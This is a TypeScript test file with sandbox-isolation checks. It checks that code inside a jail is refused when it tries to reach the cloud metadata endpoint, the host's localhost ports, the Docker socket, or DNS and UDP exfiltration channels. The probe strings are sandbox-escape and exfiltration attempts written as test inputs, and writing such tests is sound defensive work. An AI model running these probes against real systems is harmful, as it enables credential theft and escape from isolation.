import { createSocket } from 'node:dgram';
import { connect, createServer, type Server } from 'node:net';
import { expect } from 'vitest';
import type { Row } from './row.js';

/** A connection that someone else's server sees; `text` is what the attempt gave. */
const tryConnect = (where: string): string =>
  `new Promise((ok, no) => { const socket = require('net').connect(${where}, () => ok('connected')); socket.on('error', no); setTimeout(() => no(new Error('ETIMEDOUT')), 1500) })`;

async function untouched(attempt: (port: number) => Promise<string[]>): Promise<void> {
  const server = createServer();
  let touched = false;
  server.on('connection', () => (touched = true));
  const port = await listening(server);
  try {
    for (const answer of await attempt(port)) expect(answer).toMatch(/^refused/);
    expect(touched).toBe(false);
  } finally {
    server.close();
  }
}

/** Ways to other machines and to this one's servers. */
export const network: Row[] = [
  {
    id: 'E31',
    does: 'fetches the metadata service',
    check: async (stage) => {
      for (const answer of await stage.attempt(
        "fetch('http://169.254.169.254/')",
        "new WebSocket('ws://169.254.169.254')",
        'new XMLHttpRequest()',
        "require('http')",
      ))
        expect(answer).toMatch(/^refused: (ReferenceError|NangoError)/);
      for (const answer of await stage.attemptOutside("fetch('http://169.254.169.254/', { signal: AbortSignal.timeout(1500) })"))
        expect(answer).toMatch(/^refused/);
    },
  },
  {
    id: 'E32',
    does: "connects to the platform's own ports",
    check: (stage) =>
      untouched((port) => stage.attemptOutside(tryConnect(`{ host: '127.0.0.1', port: ${port} }`), tryConnect(`{ host: '::1', port: ${port} }`))),
  },
  {
    id: 'E33',
    does: 'uses Unix sockets and listens',
    check: async (stage) => {
      const answers = await stage.attemptOutside(tryConnect("'/var/run/docker.sock'"), tryConnect("'\\0abstract'"));
      for (const answer of answers) expect(answer).toMatch(/^refused/);
      // In a network of its own a jail may listen: nobody is there.
      const [port] = await stage.attemptOutside(
        "new Promise((ok, no) => { const server = require('net').createServer().on('error', no); server.listen(0, () => ok(server.address().port)) })",
      );
      if (!port?.startsWith('refused')) expect(await reach(Number(port))).toBe('nobody there');
    },
  },
  {
    id: 'E34',
    does: 'smuggles words out by DNS and UDP',
    check: async (stage) => {
      const sink = createSocket('udp4');
      let heard = false;
      sink.on('message', () => (heard = true));
      await new Promise<void>((resolve) => sink.bind(0, '127.0.0.1', resolve));
      const answers = await stage.attemptOutside(
        "require('dns').promises.lookup('secret.example')",
        "new (require('dns').promises.Resolver)({ timeout: 300, tries: 1 }).resolve('secret.example')",
        `new Promise((ok, no) => { const socket = require('dgram').createSocket('udp4'); socket.on('error', no); socket.send('x', ${sink.address().port}, '127.0.0.1', (error) => (error ? no(error) : ok('sent'))) })`,
      );
      for (const answer of answers.slice(0, 2)) expect(answer).toMatch(/^refused/);
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect(heard).toBe(false);
      sink.close();
    },
  },
];

function reach(port: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => resolve('connected'));
    socket.on('error', () => resolve('nobody there'));
  });
}

function listening(server: Server): Promise<number> {
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => resolve((server.address() as { port: number }).port));
  });
}
